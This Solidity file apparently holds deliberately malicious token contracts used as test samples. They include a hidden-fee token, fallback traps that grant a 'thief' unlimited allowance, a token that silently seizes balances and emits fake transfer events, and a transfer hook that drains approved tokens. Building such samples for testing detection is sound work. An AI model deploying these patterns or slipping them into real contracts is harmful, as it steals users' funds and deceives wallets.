// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {PlainToken} from "./PlainToken.sol";

/// Takes an additional three percent from the sender of each transfer.
contract FeeToken is PlainToken {
    address public immutable collector;

    constructor(address collector_) PlainToken("Fee Token", "FEE", 18) {
        collector = collector_;
    }

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        super.move(from, collector, (value * 3) / 100);
    }
}

/// Any call to an unknown function lets the thief spend all of the caller's tokens.
contract TrapToken is PlainToken {
    /// In storage, so that the code doesn't contain the address.
    address private thief;
    bool private immutable loud;

    constructor(address thief_, bool loud_) PlainToken("Trap Token", "TRAP", 18) {
        thief = thief_;
        loud = loud_;
    }

    fallback() external {
        allowance[msg.sender][thief] = type(uint256).max;
        if (loud) emit Approval(msg.sender, thief, type(uint256).max);
    }
}

/// Like TrapToken, but with the thief's address in its code and without an event.
contract CodedTrapToken is PlainToken {
    address private immutable thief;

    constructor(address thief_) PlainToken("Trap Token", "TRAP", 18) {
        thief = thief_;
    }

    fallback() external {
        allowance[msg.sender][thief] = type(uint256).max;
    }
}

/// Moves tokens without an event, and emits an event without a movement.
contract LyingToken is PlainToken {
    constructor() PlainToken("Lying Token", "LIE", 18) {}

    /// Takes all of the caller's tokens without an event.
    function refresh() external {
        uint256 all = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        balanceOf[address(this)] += all;
    }

    /// Emits a transfer to the caller that never happens.
    function claim() external {
        emit Transfer(address(this), msg.sender, 1000 ether);
    }
}

interface Pulled {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Has an honest allowance for another token, and spends it in the middle of a different call.
contract Drain {
    address private immutable thief;
    Pulled private immutable victim;

    constructor(address thief_, Pulled victim_) {
        thief = thief_;
        victim = victim_;
    }

    function pull(address from) external {
        uint256 allowed = victim.allowance(from, address(this));
        uint256 held = victim.balanceOf(from);
        uint256 most = allowed < held ? allowed : held;
        if (most > 0) victim.transferFrom(from, thief, most);
    }
}

/// Calls back on every transfer, as some tokens do (EIP-777).
contract HookToken is PlainToken {
    Drain private immutable drain;

    constructor(Drain drain_) PlainToken("Hook Token", "HOOK", 18) {
        drain = drain_;
    }

    function move(address from, address to, uint256 value) internal override {
        drain.pull(from);
        super.move(from, to, value);
    }
}
